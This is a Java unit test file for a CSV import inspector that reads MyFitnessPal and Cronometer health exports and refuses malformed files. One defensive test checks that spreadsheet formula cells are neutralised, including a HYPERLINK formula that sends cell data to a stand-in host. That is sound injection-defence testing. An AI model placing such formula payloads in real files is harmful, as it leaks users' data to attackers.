package io.healthmesh.imports.csv;

import static io.healthmesh.imports.csv.CsvFixtures.BERLIN;
import static io.healthmesh.imports.csv.CsvFixtures.inspect;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.healthmesh.imports.csv.CsvMapping.ColumnFormat;
import io.healthmesh.imports.csv.CsvMapping.DurationColumn;
import io.healthmesh.imports.csv.CsvMapping.Unmapped;
import io.healthmesh.imports.csv.CsvMapping.ValueColumn;
import io.healthmesh.imports.csv.CsvRejectedException.Reason;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class CsvInspectorTest {

    private static final CsvDialect PLAIN_UTF8 = new CsvDialect("UTF-8", false, ',', '"', '.', 1);

    @TempDir
    Path temp;

    @Test
    void myFitnessPalNutrition() {
        CsvPreview preview = inspect(CsvFixtures.MFP_NUTRITION, BERLIN);

        assertThat(preview.dialect()).isEqualTo(PLAIN_UTF8);
        assertThat(preview.detectedPreset()).isEqualTo("myfitnesspal-nutrition");
        assertThat(preview.zone()).isEqualTo(BERLIN);
        assertThat(preview.header()).hasSize(20).startsWith("Date", "Meal", "Calories").endsWith("Note");
        assertThat(preview.rows()).hasSize(4);
        assertThat(preview.rows().get(2)).startsWith("2025-03-07", "Dinner", "1,020.5").endsWith("Pizza night");
        assertThat(preview.suggestedMapping()).isEqualTo(mfpNutritionSuggestion(null));
        assertThat(preview.notes()).contains(
                "Vitamin A, Vitamin C, Calcium, Iron are % of daily value in MyFitnessPal exports, not amounts: they "
                        + "are not imported.",
                "Each row is one meal's total and counts for its whole day, so a day's meals add up.",
                "Dates and times are read as local time in Europe/Berlin, your home zone; change zone if they were "
                        + "recorded elsewhere.");
    }

    /** The full suggestion for MyFitnessPal's Nutrition-Summary, as documented in the report. */
    static CsvMapping mfpNutritionSuggestion(ColumnFormat time) {
        return new CsvMapping("myfitnesspal-nutrition", "myfitnesspal",
                new ColumnFormat("Date", "yyyy-M-d"), time, BERLIN, null, null,
                List.of("Meal"),
                List.of(new ValueColumn("Calories", "dietary_energy", "kcal", "cumulative", null),
                        new ValueColumn("Fat (g)", "fat_total", "g", "cumulative", null),
                        new ValueColumn("Saturated Fat", "fat_saturated", "g", "cumulative", null),
                        new ValueColumn("Cholesterol", "cholesterol", "mg", "cumulative", null),
                        new ValueColumn("Sodium (mg)", "sodium", "mg", "cumulative", null),
                        new ValueColumn("Potassium", "potassium", "mg", "cumulative", null),
                        new ValueColumn("Carbohydrates (g)", "carbohydrate", "g", "cumulative", null),
                        new ValueColumn("Fiber", "fiber", "g", "cumulative", null),
                        new ValueColumn("Sugar", "sugar", "g", "cumulative", null),
                        new ValueColumn("Protein (g)", "protein", "g", "cumulative", null)),
                null, true,
                List.of(new Unmapped("Polyunsaturated Fat", "no vocabulary metric"),
                        new Unmapped("Monounsaturated Fat", "no vocabulary metric"),
                        new Unmapped("Trans Fat", "no vocabulary metric"),
                        new Unmapped("Vitamin A", "% of daily value, not a mass"),
                        new Unmapped("Vitamin C", "% of daily value, not a mass"),
                        new Unmapped("Calcium", "% of daily value, not a mass"),
                        new Unmapped("Iron", "% of daily value, not a mass"),
                        new Unmapped("Note", "free text")));
    }

    @Test
    void myFitnessPalNutritionWithTimeByteOrderMarkCrlfAndAMultiLineNote() {
        CsvPreview preview = inspect(CsvFixtures.MFP_NUTRITION_TIME, BERLIN);

        assertThat(preview.dialect()).isEqualTo(new CsvDialect("UTF-8", true, ',', '"', '.', 1));
        assertThat(preview.header()).startsWith("Date", "Meal", "Time");
        assertThat(preview.suggestedMapping())
                .isEqualTo(mfpNutritionSuggestion(new ColumnFormat("Time", "h:mm a")));
        assertThat(preview.rows()).hasSize(4);
        assertThat(preview.rows().get(0).get(20)).isEqualTo("Oats\nwith \"honey\", berries");
        assertThat(preview.rows().get(1)).startsWith("2025-03-06", "Breakfast", "8:10 am");
    }

    @Test
    void myFitnessPalMeasurementLeavesTheUnitlessWeightToTheUser() {
        CsvPreview preview = inspect(CsvFixtures.MFP_MEASUREMENT, BERLIN);

        assertThat(preview.detectedPreset()).isEqualTo("myfitnesspal-measurement");
        CsvMapping mapping = preview.suggestedMapping();
        assertThat(mapping.source()).isEqualTo("myfitnesspal");
        assertThat(mapping.values()).containsExactly(
                new ValueColumn("Body Fat %", "body_fat_percentage", "%", "sample", null));
        assertThat(mapping.unmapped()).containsExactly(
                new Unmapped("Weight", "no unit in the file: add it to values with unit kg or lb"));
        assertThat(preview.notes()).anySatisfy(note -> assertThat(note)
                .startsWith("Column 'Weight' has no unit: add it to values with unit kg or lb"));
    }

    @Test
    void myFitnessPalMeasurementIsRecognizedWithoutItsFileNameToo() throws Exception {
        Path file = write("weights.csv", "Date,Weight\n2025-03-01,71.4\n");
        CsvPreview preview = new CsvInspector().inspect(file, "weights.csv", null);
        assertThat(preview.detectedPreset()).isEqualTo("myfitnesspal-measurement");
        assertThat(preview.suggestedMapping().values()).isEmpty();
    }

    @Test
    void myFitnessPalExercise() {
        CsvPreview preview = inspect(CsvFixtures.MFP_EXERCISE, BERLIN);

        assertThat(preview.detectedPreset()).isEqualTo("myfitnesspal-exercise");
        CsvMapping mapping = preview.suggestedMapping();
        assertThat(mapping.labels()).containsExactly("Exercise");
        assertThat(mapping.values()).containsExactly(
                new ValueColumn("Exercise Calories", "active_energy", "kcal", "cumulative", null),
                new ValueColumn("Exercise Minutes", "exercise_time", "min", "cumulative", null),
                new ValueColumn("Steps", "steps", "count", "cumulative", null));
        assertThat(mapping.unmapped()).extracting(Unmapped::column)
                .containsExactly("Type", "Sets", "Reps Per Set", "Kilograms", "Note");
        assertThat(mapping.userEntered()).isNull();
        // The preview shows the name as written, literal quotes and all.
        assertThat(preview.rows().get(0).get(1)).isEqualTo("\"Walking, 3.5 mph\"");
    }

    @Test
    void cronometerDailySummaryKeepsTheMicroSign() {
        CsvPreview preview = inspect(CsvFixtures.CRONOMETER_DAILY, BERLIN);

        assertThat(preview.detectedPreset()).isEqualTo("cronometer-dailysummary");
        assertThat(preview.header()).contains("B12 (Cobalamin) (\u00b5g)", "Folate (\u00b5g)");
        CsvMapping mapping = preview.suggestedMapping();
        assertThat(mapping.source()).isEqualTo("cronometer");
        assertThat(mapping.date()).isEqualTo(new ColumnFormat("Date", "yyyy-M-d"));
        assertThat(mapping.values()).extracting(ValueColumn::aggregation).containsOnly("daily");
        assertThat(mapping.values()).extracting(ValueColumn::metric).containsExactly("dietary_energy", "caffeine",
                "water", "vitamin_c", "calcium", "iron", "potassium", "sodium", "carbohydrate", "fiber", "sugar",
                "fat_total", "cholesterol", "fat_saturated", "protein");
        assertThat(mapping.values()).contains(new ValueColumn("Water (g)", "water", "mL", "daily", null));
        assertThat(mapping.unmapped()).extracting(Unmapped::column).containsExactly("Completed", "Alcohol (g)",
                "B12 (Cobalamin) (\u00b5g)", "Folate (\u00b5g)", "Vitamin D (IU)");
        assertThat(preview.notes()).contains("Column 'Water (g)' is imported as water in mL (1 g of water is 1 mL).");
    }

    @Test
    void cronometerDailySummaryInKilojoules() throws Exception {
        Path file = write("dailysummary.csv", "Date,Energy (kJ),Protein (g),Completed\n2024-01-02,8368,80,true\n");
        CsvPreview preview = new CsvInspector().inspect(file, "dailysummary.csv", BERLIN);
        assertThat(preview.detectedPreset()).isEqualTo("cronometer-dailysummary");
        assertThat(preview.suggestedMapping().values()).startsWith(
                new ValueColumn("Energy (kJ)", "dietary_energy", "kJ", "daily", null));
    }

    @Test
    void cronometerServings() {
        CsvPreview preview = inspect(CsvFixtures.CRONOMETER_SERVINGS, BERLIN);

        assertThat(preview.detectedPreset()).isEqualTo("cronometer-servings");
        CsvMapping mapping = preview.suggestedMapping();
        assertThat(mapping.date()).isEqualTo(new ColumnFormat("Day", "yyyy-M-d"));
        assertThat(mapping.time()).isEqualTo(new ColumnFormat("Time", "h:mm a"));
        assertThat(mapping.labels()).containsExactly("Group", "Food Name");
        assertThat(mapping.values()).extracting(ValueColumn::aggregation).containsOnly("cumulative");
        assertThat(preview.rows().get(1).get(3)).isEqualTo("Milk, 2%, \"Organic\" brand");
    }

    @Test
    void cronometerBiometricsIsLongFormat() {
        CsvPreview preview = inspect(CsvFixtures.CRONOMETER_BIOMETRICS, BERLIN);

        assertThat(preview.detectedPreset()).isEqualTo("cronometer-biometrics");
        CsvMapping mapping = preview.suggestedMapping();
        assertThat(mapping.labels()).containsExactly("Group");
        assertThat(mapping.values()).isEmpty();
        CsvMapping.LongFormat longFormat = mapping.longFormat();
        assertThat(longFormat.metricColumn()).isEqualTo("Metric");
        assertThat(longFormat.unitColumn()).isEqualTo("Unit");
        assertThat(longFormat.valueColumn()).isEqualTo("Amount");
        assertThat(longFormat.metrics()).containsEntry("Weight", "body_mass").containsEntry("Heart Rate", "heart_rate")
                .containsEntry("Blood Glucose", "blood_glucose").containsEntry("Sleep", null);
        assertThat(preview.notes()).contains(
                "Sleep rows are not imported: sleep comes from sleep sessions.",
                "Metric 'Insulin' has no vocabulary metric: its rows are skipped unless you add it to long.metrics.",
                "Metric 'Blood Pressure' has no vocabulary metric: its rows are skipped unless you add it to "
                        + "long.metrics.");
    }

    @Test
    void cronometerExercisesLastTheirMinutes() {
        CsvPreview preview = inspect(CsvFixtures.CRONOMETER_EXERCISES, BERLIN);

        assertThat(preview.detectedPreset()).isEqualTo("cronometer-exercises");
        CsvMapping mapping = preview.suggestedMapping();
        assertThat(mapping.duration()).isEqualTo(new DurationColumn("Minutes", "min"));
        assertThat(mapping.labels()).containsExactly("Group", "Exercise");
        assertThat(mapping.values()).containsExactly(
                new ValueColumn("Minutes", "exercise_time", "min", "cumulative", null),
                new ValueColumn("Calories Burned", "active_energy", "kcal", "cumulative", true));
    }

    @Test
    void aEuropeanResaveHasSemicolonsAndDecimalCommas() {
        CsvPreview preview = inspect(CsvFixtures.RESAVED_SEMICOLON, BERLIN);

        assertThat(preview.dialect()).isEqualTo(new CsvDialect("UTF-8", false, ';', '"', ',', 1));
        assertThat(preview.detectedPreset()).isEqualTo("myfitnesspal-nutrition");
        assertThat(preview.rows().get(0)).startsWith("2025-03-06", "Breakfast", "412,5").endsWith("Toast; jam");
        assertThat(preview.notes()).contains("Numbers are read with a decimal comma (71,4 is 71.4).");
    }

    @Test
    void aLatin1FileIsReadAsWindows1252() {
        CsvPreview preview = inspect(CsvFixtures.LATIN1, BERLIN);

        assertThat(preview.dialect().encoding()).isEqualTo("windows-1252");
        assertThat(preview.header()).contains("B12 (Cobalamin) (\u00b5g)");
        assertThat(preview.rows().get(0)).contains("D\u00e9jeuner", "Cr\u00e8me fra\u00eeche, full fat");
        assertThat(preview.detectedPreset()).isEqualTo("cronometer-servings");
    }

    @Test
    void aGenericFileGetsMetricsFromItsColumnNames() {
        CsvPreview preview = inspect(CsvFixtures.GENERIC, null);

        assertThat(preview.detectedPreset()).isEqualTo("generic");
        assertThat(preview.zone()).isEqualTo("UTC");
        assertThat(preview.suggestedMapping()).isEqualTo(new CsvMapping("generic", "csv",
                new ColumnFormat("Date", "yyyy-M-d"), null, "UTC", null, null, List.of(),
                List.of(new ValueColumn("Weight (lb)", "body_mass", "lb", "sample", null),
                        new ValueColumn("Steps", "steps", "count", "cumulative", null)),
                null, null,
                List.of(new Unmapped("Mood",
                        "no metric recognized in the column name: add it to values to import it"))));
        assertThat(preview.notes()).contains("Dates and times are read as UTC (no home zone is set): set zone to "
                + "where they were recorded, e.g. Europe/Berlin.");
    }

    @Test
    void genericDateTimesUnitSuffixesAndUnitlessMasses() throws Exception {
        Path file = write("log.csv", "Timestamp\tweight_lbs\tHeart Rate\tBody Fat %\tbody_mass\n"
                + "2024-03-01 07:30\t165.2\t61\t18.2\t75\n2024-03-02 07:45\t164.8\t59\t18.0\t74.8\n");
        CsvPreview preview = new CsvInspector().inspect(file, "log.csv", "Not/AZone");

        assertThat(preview.dialect().delimiter()).isEqualTo('\t');
        assertThat(preview.zone()).isEqualTo("UTC");
        CsvMapping mapping = preview.suggestedMapping();
        assertThat(mapping.date()).isEqualTo(new ColumnFormat("Timestamp", "yyyy-M-d H:mm"));
        assertThat(mapping.time()).isNull();
        assertThat(mapping.values()).containsExactly(
                new ValueColumn("weight_lbs", "body_mass", "lb", "sample", null),
                new ValueColumn("Heart Rate", "heart_rate", "count/min", "sample", null),
                new ValueColumn("Body Fat %", "body_fat_percentage", "%", "sample", null));
        assertThat(mapping.unmapped()).extracting(Unmapped::column).containsExactly("body_mass");
        assertThat(preview.notes()).contains(
                "Column 'body_mass' has no unit: add it to values with a unit that fits body_mass (canonical unit kg).",
                "Dates and times are read as UTC ('Not/AZone' is not a time zone): set zone to where they were "
                        + "recorded, e.g. Europe/Berlin.");
        assertThat(CsvMappingValidator.problems(mapping, preview.header())).isEmpty();
    }

    @Test
    void genericSeparateTimeColumn() throws Exception {
        Path file = write("bp.csv", "Date,Time,Systolic (mmHg),Diastolic (mmHg)\n2024-03-01,7:05 PM,121,79\n");
        CsvMapping mapping = new CsvInspector().inspect(file, "bp.csv", BERLIN).suggestedMapping();
        assertThat(mapping.time()).isEqualTo(new ColumnFormat("Time", "h:mm a"));
        assertThat(mapping.values()).extracting(ValueColumn::metric)
                .containsExactly("blood_pressure_systolic", "blood_pressure_diastolic");
    }

    @Test
    void genericDatesThatReadBothWaysAreLeftToTheUser() throws Exception {
        Path file = write("w.csv", "Date,Weight (kg)\n03/04/2024,70.1\n05/06/2024,70.3\n");
        CsvPreview preview = new CsvInspector().inspect(file, "w.csv", BERLIN);
        assertThat(preview.suggestedMapping().date()).isNull();
        assertThat(preview.notes()).anySatisfy(note -> assertThat(note)
                .startsWith("The dates in 'Date' read both as month/day and as day/month"));
        assertThat(CsvMappingValidator.problems(preview.suggestedMapping(), preview.header()))
                .anySatisfy(problem -> assertThat(problem).startsWith("date: missing"));

        Path unambiguous = write("w2.csv", "Date,Weight (kg)\n03/04/2024,70.1\n05/26/2024,70.3\n");
        assertThat(new CsvInspector().inspect(unambiguous, "w2.csv", BERLIN).suggestedMapping().date())
                .isEqualTo(new ColumnFormat("Date", "M/d/yyyy"));
    }

    @Test
    void formulaCellsAreNeutralisedInTheHeaderRowsAndSuggestion() {
        CsvPreview preview = inspect(CsvFixtures.FORMULA, BERLIN);

        assertThat(preview.header()).containsExactly("Date", "Weight (kg)", "Comment", "'=SUM(A1:A2)");
        assertThat(preview.rows().get(0).get(2)).isEqualTo("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")");
        assertThat(preview.rows().get(1)).containsExactly("2024-03-02", "'@SUM(1)", "-5", "2");
        assertThat(preview.rows().get(2)).containsExactly("2024-03-03", "-3.2", "'+1+1", "3");
        assertThat(preview.suggestedMapping().unmapped()).extracting(Unmapped::column).contains("'=SUM(A1:A2)");
    }

    @Test
    void leadingBlankLinesTabsAndCarriageReturns() throws Exception {
        Path file = write("cr.csv", "\r\r\t\rDate\tSteps\r2024-03-01\t8000\r");
        CsvPreview preview = new CsvInspector().inspect(file, "cr.csv", BERLIN);
        assertThat(preview.dialect()).isEqualTo(new CsvDialect("UTF-8", false, '\t', '"', '.', 4));
        assertThat(preview.header()).containsExactly("Date", "Steps");
        assertThat(preview.rows()).containsExactly(List.of("2024-03-01", "8000"));
    }

    @Test
    void longCellsAreCutInThePreview() throws Exception {
        Path file = write("long.csv", "Date,Steps,Note\n2024-03-01,8000," + "n".repeat(5000) + "\n");
        CsvPreview preview = new CsvInspector().inspect(file, "long.csv", BERLIN);
        assertThat(preview.rows().get(0).get(2)).hasSize(CsvLimits.MAX_ECHO_CHARS);
    }

    @Test
    void onlyTheFirstTenRowsArePreviewed() throws Exception {
        StringBuilder text = new StringBuilder("Date,Steps\n");
        for (int day = 1; day <= 20; day++) {
            text.append("2024-03-").append(day).append(",100\n");
        }
        CsvPreview preview = new CsvInspector().inspect(write("many.csv", text.toString()), "many.csv", BERLIN);
        assertThat(preview.rows()).hasSize(CsvInspector.PREVIEW_ROWS);
    }

    // ---------------------------------------------------------------------------------------------
    // Refusals

    @Test
    void emptyFiles() throws Exception {
        assertThat(rejected(new byte[0])).isEqualTo(Reason.EMPTY);
        assertThat(rejected(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF})).isEqualTo(Reason.EMPTY);
        assertThat(rejected("\n\n \r\n".getBytes(StandardCharsets.UTF_8))).isEqualTo(Reason.NO_HEADER);
    }

    @Test
    void binaryArchivesAndDocuments() throws Exception {
        assertThat(rejected(new byte[] {'D', 'a', 't', 'e', ',', 0, 1, 2})).isEqualTo(Reason.BINARY);
        assertThat(rejected(new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0})).isEqualTo(Reason.ARCHIVE_OR_DOCUMENT);
        assertThat(rejected(new byte[] {(byte) 0x1F, (byte) 0x8B, 8, 0})).isEqualTo(Reason.ARCHIVE_OR_DOCUMENT);
        assertThat(rejected("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII))).isEqualTo(Reason.ARCHIVE_OR_DOCUMENT);
        byte[] controls = new byte[400];
        for (int i = 0; i < controls.length; i++) {
            controls[i] = (byte) (i % 2 == 0 ? 'a' : 3);
        }
        assertThat(rejected(controls)).isEqualTo(Reason.BINARY);
    }

    @Test
    void theZipMessageTellsWhatToDo() throws Exception {
        Path file = temp.resolve("File-Export.zip");
        Files.write(file, new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0});
        CsvRejectedException error = catchThrowableOfType(
                () -> new CsvInspector().inspect(file, "File-Export.zip", BERLIN), CsvRejectedException.class);
        assertThat(error.getMessage()).contains("ZIP").contains("unzip it");
    }

    @Test
    void utf16() throws Exception {
        assertThat(rejected("\uFEFFDate,Steps\n".getBytes(StandardCharsets.UTF_16LE)))
                .isEqualTo(Reason.UNSUPPORTED_ENCODING);
    }

    @Test
    void oneColumnOrNoHeader() throws Exception {
        assertThat(rejected("Date\n2024-03-01\n".getBytes(StandardCharsets.UTF_8))).isEqualTo(Reason.ONE_COLUMN);
        assertThat(rejected("2024-03-01,71.4\n2024-03-02,71.2\n".getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(Reason.NO_HEADER);
        assertThat(rejected("Date,\"Meal\n2024-03-01,x\n".getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(Reason.NO_HEADER);
    }

    @Test
    void aHugeFirstLine() throws Exception {
        byte[] huge = ("Date,Steps" + ",x".repeat(CsvLimits.SNIFF_BYTES)).getBytes(StandardCharsets.UTF_8);
        assertThat(rejected(huge)).isIn(Reason.ROW_TOO_LONG, Reason.TOO_MANY_COLUMNS);
        byte[] hugeCell = ("Date,Steps" + "y".repeat(2 * CsvLimits.SNIFF_BYTES)).getBytes(StandardCharsets.UTF_8);
        assertThat(rejected(hugeCell)).isEqualTo(Reason.ROW_TOO_LONG);
    }

    @Test
    void aHugeRowAmongTheFirst() throws Exception {
        byte[] file = ("Date,Note\n2024-03-01,ok\n2024-03-02," + "z".repeat(CsvLimits.MAX_RECORD_CHARS + 10) + "\n")
                .getBytes(StandardCharsets.UTF_8);
        CsvRejectedException error = catchThrowableOfType(() -> inspectBytes(file), CsvRejectedException.class);
        assertThat(error.reason()).isEqualTo(Reason.ROW_TOO_LONG);
        assertThat(error.getMessage()).startsWith("The row on line 3 is longer than 1024 KiB");
    }

    @Test
    void tooManyColumns() throws Exception {
        String header = "Date" + ",c".repeat(CsvLimits.MAX_COLUMNS) + "\n";
        assertThat(rejected(header.getBytes(StandardCharsets.UTF_8))).isEqualTo(Reason.TOO_MANY_COLUMNS);
        String row = "Date,Steps\n2024-03-01" + ",1".repeat(CsvLimits.MAX_COLUMNS + 5) + "\n";
        assertThat(rejected(row.getBytes(StandardCharsets.UTF_8))).isEqualTo(Reason.TOO_MANY_COLUMNS);
    }

    @Test
    void aFileBiggerThanTheSniffedPartIsFine() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes("Date,Steps,Note\n".getBytes(StandardCharsets.UTF_8));
        while (bytes.size() < 3 * CsvLimits.SNIFF_BYTES) {
            bytes.writeBytes("2024-03-01,8000,\"caf\u00e9, long walk\"\n".getBytes(StandardCharsets.UTF_8));
        }
        CsvPreview preview = inspectBytes(bytes.toByteArray());
        assertThat(preview.dialect()).isEqualTo(PLAIN_UTF8);
        assertThat(preview.rows()).hasSize(CsvInspector.PREVIEW_ROWS);
    }

    private Reason rejected(byte[] content) throws IOException {
        CsvRejectedException error = catchThrowableOfType(() -> inspectBytes(content), CsvRejectedException.class);
        assertThat(error).as("a refusal").isNotNull();
        assertThat(error.getMessage()).isNotBlank();
        return error.reason();
    }

    private CsvPreview inspectBytes(byte[] content) throws IOException, CsvRejectedException {
        Path file = Files.createTempFile(temp, "upload", ".csv");
        Files.write(file, content);
        return new CsvInspector().inspect(file, "upload.csv", BERLIN);
    }

    private Path write(String name, String text) throws Exception {
        Path file = temp.resolve(name);
        Files.writeString(file, text, StandardCharsets.UTF_8);
        return file;
    }
}
